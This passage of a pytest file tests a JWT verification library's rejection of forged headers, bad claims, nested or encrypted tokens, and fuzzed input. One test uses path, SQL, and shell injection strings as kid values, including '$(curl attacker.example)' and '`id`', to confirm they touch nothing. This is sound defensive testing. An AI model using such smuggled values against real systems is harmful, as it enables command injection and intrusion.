    ),
    ("kid-nul", lambda k: k.rs.token(kid="rsa-1\x00"), "bad_kid"),
    ("kid-newline", lambda k: k.rs.token(kid="rsa-1\n"), "bad_kid"),
    ("kid-unicode", lambda k: k.rs.token(kid="rsа-1"), "bad_kid"),
    ("kid-empty", lambda k: k.rs.token(kid=""), "bad_kid"),
    ("kid-300-chars", lambda k: k.rs.token(kid="k" * 300), "bad_kid"),
    ("kid-10kb", lambda k: k.rs.token(kid="k" * 10_000), "too_large"),
    ("kid-list", lambda k: k.rs.token(kid=["a"]), "bad_kid"),
    ("kid-mongo-operator", lambda k: k.rs.token(kid={"$ne": None}), "bad_kid"),
    ("kid-number", lambda k: k.rs.token(kid=123), "bad_kid"),
    ("kid-null", lambda k: k.rs.token(kid=None), "bad_kid"),
    ("kid-bool", lambda k: k.rs.token(kid=True), "bad_kid"),
    ("crit-custom", lambda k: k.rs.token(crit=["exp2"], exp2=1), "unsupported_crit"),
    ("crit-empty", lambda k: k.rs.token(crit=[]), "unsupported_crit"),
    ("crit-alg", lambda k: k.rs.token(crit=["alg"]), "unsupported_crit"),
    ("crit-absent-member", lambda k: k.rs.token(crit=["nothere"]), "unsupported_crit"),
    ("crit-not-array", lambda k: k.rs.token(crit="exp"), "unsupported_crit"),
    ("b64-false-with-crit", lambda k: k.rs.token(b64=False, crit=["b64"]), "unsupported_crit"),
    ("b64-false-alone", lambda k: k.rs.token(b64=False), "unsupported_crit"),
    ("b64-true", lambda k: k.rs.token(b64=True), "unsupported_crit"),
]


@cases(KEY_HEADERS)
def test_key_and_extension_headers_are_rejected(
    kit: Kit, build: Callable[[Kit], Any], reason: str, no_network: list[Any]
) -> None:
    """jwk/jku/x5u/x5c, bad kids and any crit/b64 are refused with no I/O."""
    assert outcome(build(kit), kit) == reason


@pytest.mark.parametrize(
    "kid",
    [
        "../../../../dev/null",
        "/dev/null",
        "x' UNION SELECT '1';--",
        "|sleep 10",
        "$(curl attacker.example)",
        "`id`",
    ],
)
def test_injection_kids_find_no_key(kit: Kit, kid: str, no_network: list[Any]) -> None:
    """Path, SQL and shell kids are plain strings that match no key and touch nothing."""
    raw = kit.rs.token(kid=kid)
    assert parse_token(raw).kid == kid
    assert outcome(raw, kit) == "no_key"
    header = b64(json.dumps({"alg": "HS256", "kid": kid}).encode())
    signing_input = f"{header}.{b64(json.dumps(claims()).encode())}"
    mac = hmac.new(b"", signing_input.encode(), hashlib.sha256).digest()
    assert outcome(f"{signing_input}.{b64(mac)}", kit) == "no_key"


# --- D. token type and nesting ---------------------------------------------------------------

NESTING: list[Case] = [
    (
        "jwe-five-parts",
        lambda k: "eyJhbGciOiJkaXIiLCJlbmMiOiJBMTI4R0NNIn0..aXY.Y2lwaGVy.dGFn",
        "malformed",
    ),
    (
        "jwe-dir-header",
        lambda k: k.rs.token(header={"alg": "dir", "enc": "A128GCM"}),
        "forbidden_header",
    ),
    (
        "jwe-rsa1-5-header",
        lambda k: k.rs.token(header={"alg": "RSA1_5", "enc": "A128GCM"}),
        "forbidden_header",
    ),
    (
        "jwe-pbes2-p2c",
        lambda k: k.rs.token(header={"alg": "PBES2-HS256+A128KW", "p2c": 10**9}),
        "forbidden_header",
    ),
    ("zip-deflate", lambda k: k.rs.token(zip="DEF"), "forbidden_header"),
    (
        "key-wrap-alg-no-enc",
        lambda k: k.rs.token(header={"alg": "RSA-OAEP", "kid": "rsa-1"}),
        "no_key",
    ),
    ("cty-JWT", lambda k: k.rs.token(k.attacker.token().encode(), cty="JWT"), "nested_jwt"),
    ("cty-jwt", lambda k: k.rs.token(cty="jwt"), "nested_jwt"),
    ("cty-application-jwt", lambda k: k.rs.token(cty="application/JWT"), "nested_jwt"),
    ("cty-number", lambda k: k.rs.token(cty=5), "bad_header"),
    ("typ-number", lambda k: k.rs.token(typ=1), "bad_header"),
]


@cases(NESTING)
def test_jwe_and_nested_tokens_are_rejected(
    kit: Kit, build: Callable[[Kit], Any], reason: str
) -> None:
    """JWE, compressed and nested tokens are refused before any decryption."""
    assert outcome(build(kit), kit) == reason


def test_typ_values_do_not_change_verification(kit: Kit) -> None:
    """Any string typ (JWT, at+jwt, application/jwt) or none at all passes the header rules."""
    for typ in ("JWT", "at+jwt", "application/jwt", DROP):
        assert outcome(kit.rs.token(typ=typ), kit) == "accepted"


# --- E/F. claims -----------------------------------------------------------------------------


def claim_outcome(
    token_claims: Mapping[str, Any],
    *,
    audiences: Sequence[str] = (AUDIENCE,),
    require_jti: bool = True,
    now: datetime = NOW,
) -> str:
    try:
        validate_claims(
            token_claims,
            issuer=ISSUER,
            audiences=audiences,
            now=now,
            leeway=LEEWAY,
            max_lifetime=MAX_LIFETIME,
            require_jti=require_jti,
        )
    except TokenError as exc:
        return exc.reason
    return "accepted"


TIME_CASES: list[tuple[str, dict[str, Any], str]] = [
    ("exp-past-leeway", {"exp": T - LEEWAY - 1, "iat": T - 600, "nbf": T - 600}, "expired"),
    ("exp-at-leeway-boundary", {"exp": T - LEEWAY, "iat": T - 600, "nbf": T - 600}, "accepted"),
    ("exp-missing", {"exp": DROP}, "missing_claim"),
    ("iat-missing", {"iat": DROP}, "missing_claim"),
    ("nbf-missing-is-fine", {"nbf": DROP}, "accepted"),
    ("nbf-future-past-leeway", {"nbf": T + LEEWAY + 1}, "not_yet_valid"),
    ("nbf-at-leeway-boundary", {"nbf": T + LEEWAY}, "accepted"),
    (
        "iat-future-past-leeway",
        {"iat": T + LEEWAY + 1, "nbf": DROP, "exp": T + 600},
        "issued_in_future",
    ),
    ("iat-at-leeway-boundary", {"iat": T + LEEWAY, "nbf": DROP, "exp": T + 600}, "accepted"),
    ("lifetime-over-max", {"iat": T - 10, "exp": T - 10 + MAX_LIFETIME + 1}, "lifetime_exceeded"),
    ("lifetime-at-max", {"iat": T - 10, "exp": T - 10 + MAX_LIFETIME}, "accepted"),
    ("exp-2-pow-70", {"exp": 2**70}, "bad_claim_type"),
    ("exp-2-pow-40-plus-1", {"exp": 2**40 + 1}, "bad_claim_type"),
    ("exp-string", {"exp": "1795310918"}, "bad_claim_type"),
    ("exp-true", {"exp": True}, "bad_claim_type"),
    ("exp-negative", {"exp": -1}, "bad_claim_type"),
    ("exp-float", {"exp": 1.5e9}, "bad_claim_type"),
    ("exp-integral-float", {"exp": float(T + 290)}, "bad_claim_type"),
    ("exp-null", {"exp": None}, "bad_claim_type"),
    ("exp-list", {"exp": [T + 290]}, "bad_claim_type"),
    ("iat-string", {"iat": str(T)}, "bad_claim_type"),
    ("nbf-float", {"nbf": T - 10.0}, "bad_claim_type"),
    ("nbf-false", {"nbf": False}, "bad_claim_type"),
]


@pytest.mark.parametrize(
    ("changes", "reason"), [c[1:] for c in TIME_CASES], ids=[c[0] for c in TIME_CASES]
)
def test_time_claims(changes: dict[str, Any], reason: str) -> None:
    """exp/iat/nbf are integer NumericDates checked with leeway at exact boundaries."""
    assert claim_outcome(claims(**changes)) == reason


def test_expiry_boundary_with_fractional_now() -> None:
    """Half a second past exp + leeway is already expired."""
    token_claims = claims(exp=T - LEEWAY, iat=T - 600, nbf=T - 600)
    assert claim_outcome(token_claims) == "accepted"
    assert claim_outcome(token_claims, now=NOW + timedelta(milliseconds=500)) == "expired"


IDENTITY_CASES: list[tuple[str, dict[str, Any], str]] = [
    *[
        (f"iss-{name}", {"iss": value}, "wrong_issuer")
        for name, value in (
            ("typo", "https://gitlab.example.co"),
            ("trailing-slash", ISSUER + "/"),
            ("upper-case", ISSUER.upper()),
            ("http", ISSUER.replace("https", "http")),
            ("suffix", ISSUER + ".evil"),
            ("userinfo", ISSUER + "@evil"),
            ("pct-encoded", ISSUER + "%2F"),
        )
    ],
    ("iss-missing", {"iss": DROP}, "missing_claim"),
    ("iss-list", {"iss": [ISSUER]}, "bad_claim_type"),
    ("iss-empty", {"iss": ""}, "bad_claim_type"),
    ("aud-other-service", {"aud": "https://other.example.com"}, "wrong_audience"),
    ("aud-missing", {"aud": DROP}, "missing_claim"),
    ("aud-list-ours-first", {"aud": [AUDIENCE, "other"]}, "accepted"),
    ("aud-list-ours-last", {"aud": ["other", AUDIENCE]}, "accepted"),
    ("aud-list-without-ours", {"aud": ["other", "another"]}, "wrong_audience"),
    ("aud-empty-list", {"aud": []}, "bad_claim_type"),
    ("aud-nested-list", {"aud": [[AUDIENCE]]}, "bad_claim_type"),
    ("aud-number", {"aud": 1}, "bad_claim_type"),
    ("aud-case-differs", {"aud": AUDIENCE.upper()}, "wrong_audience"),
    ("sub-missing", {"sub": DROP}, "missing_claim"),
    ("sub-empty", {"sub": ""}, "bad_claim_type"),
    ("sub-number", {"sub": 123}, "bad_claim_type"),
    ("jti-missing", {"jti": DROP}, "missing_jti"),
    ("jti-empty", {"jti": ""}, "bad_claim_type"),
    ("jti-number", {"jti": 7}, "bad_claim_type"),
    ("jti-257-chars", {"jti": "j" * 257}, "bad_claim_type"),
    ("jti-256-chars", {"jti": "j" * 256}, "accepted"),
]


@pytest.mark.parametrize(
    ("changes", "reason"), [c[1:] for c in IDENTITY_CASES], ids=[c[0] for c in IDENTITY_CASES]
)
def test_identity_claims(changes: dict[str, Any], reason: str) -> None:
    """iss matches exactly, aud any-of, sub and jti are non-empty strings."""
    assert claim_outcome(claims(**changes)) == reason


def test_empty_audience_allowlist_denies_everything() -> None:
    """An issuer configured with no audiences accepts no token: the vacuous case denies."""
    assert claim_outcome(claims(), audiences=()) == "wrong_audience"
    assert claim_outcome(claims(aud=[AUDIENCE, "x"]), audiences=[]) == "wrong_audience"


def test_jti_optional_when_not_required() -> None:
    """Without require_jti a token lacking jti passes, but a present jti must be well-formed."""
    assert claim_outcome(claims(jti=DROP), require_jti=False) == "accepted"
    assert claim_outcome(claims(jti=5), require_jti=False) == "bad_claim_type"


def test_naive_now_is_a_programming_error() -> None:
    """validate_claims refuses a naive datetime instead of guessing its zone."""
    with pytest.raises(ValueError, match="aware"):
        validate_claims(
            claims(),
            issuer=ISSUER,
            audiences=[AUDIENCE],
            now=NOW.replace(tzinfo=None),
            leeway=LEEWAY,
            max_lifetime=MAX_LIFETIME,
            require_jti=True,
        )


def test_claims_are_checked_end_to_end(kit: Kit) -> None:
    """The full pipeline rejects a validly signed token with expired or foreign claims."""
    assert outcome(kit.rs.token(claims(exp=T - 3600, iat=T - 3700, nbf=DROP)), kit) == "expired"
    assert outcome(kit.rs.token(claims(iss="https://gitlab.example.com/")), kit) == "wrong_issuer"
    assert outcome(kit.rs.token(claims(aud="other")), kit) == "wrong_audience"
    assert outcome(kit.rs.token(claims(jti=DROP)), kit) == "missing_jti"


# --- hygiene ---------------------------------------------------------------------------------

SECRET_SUB = "repo:secret-org/hidden-repo:ref:refs/heads/main"


def test_errors_and_reprs_never_carry_token_or_claim_bytes(kit: Kit) -> None:
    """TokenError text and UnverifiedToken repr contain no token bytes or claim values."""
    raw_tokens = [
        kit.rs.token(claims(sub=SECRET_SUB, exp=T - 3600, iat=T - 3700, nbf=DROP)),
        kit.rs.token(claims(sub=SECRET_SUB), kid="k" * 300),
        kit.rs.token(claims(sub=SECRET_SUB)) + "x",
        kit.rs.token(claims(sub=SECRET_SUB), alg="none"),
    ]
    for raw in raw_tokens:
        try:
            token = parse_token(raw)
            validate_claims(
                token.claims,
                issuer=ISSUER,
                audiences=[AUDIENCE],
                now=NOW,
                leeway=LEEWAY,
                max_lifetime=MAX_LIFETIME,
                require_jti=True,
            )
            verify_signature(token, kit.key("rsa-1"), ["RS256"])
        except TokenError as exc:
            for text in (str(exc), repr(exc)):
                assert SECRET_SUB not in text and "secret-org" not in text
                assert raw[:40] not in text and raw[-40:] not in text
        else:
            raise AssertionError("expected a rejection")
    token = parse_token(kit.rs.token(claims(sub=SECRET_SUB)))
    assert "secret-org" not in repr(token)
    assert b64(token.signature)[:20] not in repr(token)


@pytest.mark.parametrize(
    "reason",
    [
        "malformed",
        "too_large",
        "bad_encoding",
        "bad_json",
        "duplicate_member",
        "alg_not_allowed",
        "alg_none",
        "forbidden_header",
        "unsupported_crit",
        "bad_kid",
        "nested_jwt",
        "bad_signature",
        "key_alg_mismatch",
        "expired",
        "not_yet_valid",
        "issued_in_future",
        "lifetime_exceeded",
        "missing_claim",
        "bad_claim_type",
        "wrong_issuer",
        "wrong_audience",
        "missing_jti",
        "bad_header",
    ],
)
def test_every_reason_has_a_specific_generic_sentence(reason: str) -> None:
    """Each stable reason maps to its own short sentence rather than the catch-all."""
    message = str(TokenError(reason))
    assert message != "The token is not acceptable." and len(message) < 80
    assert TokenError(reason).reason == reason


def test_ed25519_non_canonical_s_is_rejected(kit: Kit) -> None:
    """An Ed25519 signature with S + L in place of S is refused as malleable (RFC 8032 §5.1.7)."""
    header, payload, signature = kit.ed.token().split(".")
    sig = unb64(signature)
    ed25519_l = 2**252 + 27742317777372353535851937790883648493
    s_plus_l = (int.from_bytes(sig[32:], "little") + ed25519_l).to_bytes(32, "little")
    raw = f"{header}.{payload}.{b64(sig[:32] + s_plus_l)}"
    assert outcome(raw, kit, algorithms=("EdDSA",)) == "bad_signature"
    assert outcome(f"{header}.{payload}.{b64(sig)}", kit, algorithms=("EdDSA",)) == "accepted"


def test_string_allowlists_are_refused(kit: Kit) -> None:
    """A bare string as algorithms or audiences is a TypeError, never a substring match."""
    token = parse_token(kit.rs.token())
    with pytest.raises(TypeError):
        verify_signature(token, kit.key("rsa-1"), "RS256")
    with pytest.raises(TypeError):
        validate_claims(
            claims(aud="broker"),
            issuer=ISSUER,
            audiences=AUDIENCE,
            now=NOW,
            leeway=LEEWAY,
            max_lifetime=MAX_LIFETIME,
            require_jti=True,
        )


# --- robustness ------------------------------------------------------------------------------

FUZZ_VALUES: list[Any] = [
    None,
    True,
    False,
    0,
    -1,
    2**64,
    1.5,
    "",
    "x",
    "none",
    "RS256",
    "EdDSA",
    [],
    ["EdDSA"],
    {},
    {"a": [1, {"b": None}]},
    "ed-1",
    "JWT",
    "application/JWT",
    "k" * 300,
    "\x00",
    "\ud7ff",
]


def test_random_mutations_never_crash_or_pass(kit: Kit) -> None:
    """Thousands of random edits to a valid token end in a TokenError reason, never a crash."""
    rng = random.Random(20261122)  # noqa: S311 - seeded for reproducible fuzzing, not secrets
    good = kit.ed.token()
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_.=+/ \n\x00é"
    for _ in range(3000):
        chars = list(good)
        for _ in range(rng.randint(1, 4)):
            position = rng.randrange(len(chars))
            action = rng.random()
            if action < 0.5:
                chars[position] = rng.choice(alphabet)
            elif action < 0.75:
                chars.insert(position, rng.choice(alphabet))
            else:
                del chars[position]
        mutated = "".join(chars)
        result = outcome(mutated, kit, algorithms=("EdDSA",))
        assert result != "accepted" or mutated == good


# Claim values near the boundary between legal and not: times at NOW and at each leeway edge,
# strings, a dropped claim, a jti at its length limit and one character over.
NEAR_LEGAL: list[Any] = [
    *(T + delta for delta in (0, -5, 30, -LEEWAY, -LEEWAY - 1, LEEWAY, LEEWAY + 1)),
    # iat at the maximum lifetime before the default exp, and one second beyond it
    *(claims()["exp"] - MAX_LIFETIME + delta for delta in (0, -1)),
    *("x", "\ud7ff", "k" * 256, "k" * 257, DROP, 0),
]


def legal_header(header: Mapping[str, Any]) -> bool:
    """Whether an EdDSA-signed header, as the fuzz builds it, should verify (written from the
    header rules, not from the code): alg exactly EdDSA (the only one allowed); no member that
    points at a key, encrypts or compresses (jku, x5u, x5c, jwk, enc, zip); no crit or b64 (no
    extension is implemented); kid absent (the one Ed25519 key is then unambiguous) or the key's
    own; typ and cty strings, cty not announcing a nested JWT; any other member ignored."""
    if header.get("alg") != "EdDSA":
        return False
    if {"jku", "x5u", "x5c", "jwk", "enc", "zip", "crit", "b64"} & header.keys():
        return False
    if "kid" in header and header["kid"] != "ed-1":
        return False
    for name in ("typ", "cty"):
        if name in header and not isinstance(header[name], str):
            return False
    return str(header.get("cty", "")).lower() not in ("jwt", "application/jwt")


def legal_claims(payload: Mapping[str, Any]) -> bool:
    """Whether a claim set should pass at NOW (from the claim rules, not the code): iss and aud
    exact; sub and jti non-empty strings (jti at most 256 characters); exp and iat, and nbf if
    present, JSON integers in [0, 2**40]; not expired, not yet valid or issued in the future
    beyond the leeway; exp - iat within the maximum lifetime."""

    def date(name: str) -> bool:
        value = payload.get(name)
        return type(value) is int and 0 <= value <= 2**40

    def text(name: str) -> bool:
        value = payload.get(name)
        return isinstance(value, str) and value != ""

    if payload.get("iss") != ISSUER or payload.get("aud") != AUDIENCE:
        return False
    if not (text("sub") and text("jti") and len(payload["jti"]) <= 256):
        return False
    if not (date("exp") and date("iat") and ("nbf" not in payload or date("nbf"))):
        return False
    exp, iat, nbf = payload["exp"], payload["iat"], payload.get("nbf", 0)
    return (
        exp + LEEWAY >= T and nbf <= T + LEEWAY and iat <= T + LEEWAY and exp - iat <= MAX_LIFETIME
    )


def test_random_signed_headers_and_payloads_get_the_verdict_their_rules_give(kit: Kit) -> None:
    """Validly signed tokens with random header members and claims are accepted exactly when
    the header and claims are legal; random payload bytes are always refused, never a crash."""
    rng = random.Random(7)  # noqa: S311 - seeded for reproducible fuzzing, not secrets
    names = ["alg", "kid", "typ", "cty", "crit", "b64", "jku", "x5t", "zip", "enc", "extra"]
    claim_names = ["iss", "aud", "sub", "jti", "iat", "nbf", "exp"]
    # Every other header uses only members that may be legal, and every other claim set only
    # values near the legal boundary, so both verdicts occur often. Each header is also tried
    # over untouched claims, and each claim set under an untouched header, so one rule's
    # verdict is never hidden behind another's refusal.
    benign = ["kid", "typ", "cty", "x5t", "extra"]
    plain_header = {"alg": "EdDSA", "typ": "JWT", "kid": "ed-1"}
    verdicts = {True: 0, False: 0}

    def check(payload: Mapping[str, Any], header: Mapping[str, Any]) -> None:
        legal = legal_header(header) and legal_claims(payload)
        verdicts[legal] += 1
        result = outcome(kit.ed.token(payload, header=header), kit, algorithms=("EdDSA",))
        assert (result == "accepted") == legal, (header, payload, result)

    for i in range(1000):
        pool = names if i % 2 else benign
        header = {name: rng.choice(FUZZ_VALUES) for name in rng.sample(pool, rng.randint(0, 4))}
        if "kid" in header and rng.random() < 0.7:
            header["kid"] = "ed-1"
        header.setdefault("alg", "EdDSA")
        if (i // 2) % 2:
            changes = {n: rng.choice([*FUZZ_VALUES, T, DROP]) for n in rng.sample(claim_names, 2)}
        else:
            changes = {n: rng.choice(NEAR_LEGAL) for n in rng.sample(claim_names[2:], 2)}
        payload = claims(**changes)
        check(payload, header)
        check(claims(), header)
        check(payload, plain_header)
        noise = rng.randbytes(rng.randint(0, 64))
        result = outcome(kit.ed.token(noise, header=header), kit, algorithms=("EdDSA",))
        assert result != "accepted" and isinstance(result, str), (header, noise)
    # The seed reaches both verdicts often enough for the comparison to mean something.
    assert min(verdicts.values()) >= 500, verdicts


# --- contract with the dev issuer ------------------------------------------------------------


@pytest.mark.parametrize("alg", ["RS256", "PS256", "ES256", "EdDSA"])
@pytest.mark.parametrize("preset", ["gitlab", "github", "bitbucket", "okta"])
def test_dev_issuer_tokens_verify(alg: str, preset: str) -> None:
    """Tokens the dev issuer signs for every preset verify here against its published JWK."""
    key = SigningKey.generate(alg)
    keyset = parse_jwks({"keys": [key.public_jwk()]})
    token_claims = preset_claims(preset, issuer=ISSUER, audience=AUDIENCE, now=NOW)
    token = parse_token(encode_jwt(token_claims, key))
    found = keyset.find(token.kid, token.alg)
    assert found is not None and found.thumbprint() == key.thumbprint()
    verify_signature(token, found, [alg])
    validate_claims(
        token.claims,
        issuer=ISSUER,
        audiences=[AUDIENCE],
        now=NOW,
        leeway=LEEWAY,
        max_lifetime=MAX_LIFETIME,
        require_jti=preset in ("gitlab", "github", "okta"),
    )


def test_a_kept_header_is_checked_again_under_other_rules_and_refusals_are_not_kept() -> None:
    """Parsed headers are reused by their text, per rule set; a refused one is refused again."""
    payload = b64(json.dumps({"iss": "i", "sub": "s"}).encode())
    flat = b64(json.dumps({"alg": "RS256", "kid": "k1", "typ": "JWT"}).encode())
    first = parse_token(f"{flat}.{payload}.c2ln")
    second = parse_token(f"{flat}.{payload}.c2ln")
    assert first.header == second.header == {"alg": "RS256", "kid": "k1", "typ": "JWT"}
    with pytest.raises(TypeError):
        first.header["alg"] = "none"  # type: ignore[index]
    embedded = b64(json.dumps({"alg": "ES256", "jwk": {"kty": "EC"}}).encode())
    assert parse_token(f"{embedded}.{payload}.c2ln", embedded_key=True).header["jwk"]
    for _ in range(2):
        with pytest.raises(TokenError) as info:
            parse_token(f"{embedded}.{payload}.c2ln")
        assert info.value.reason == "forbidden_header"
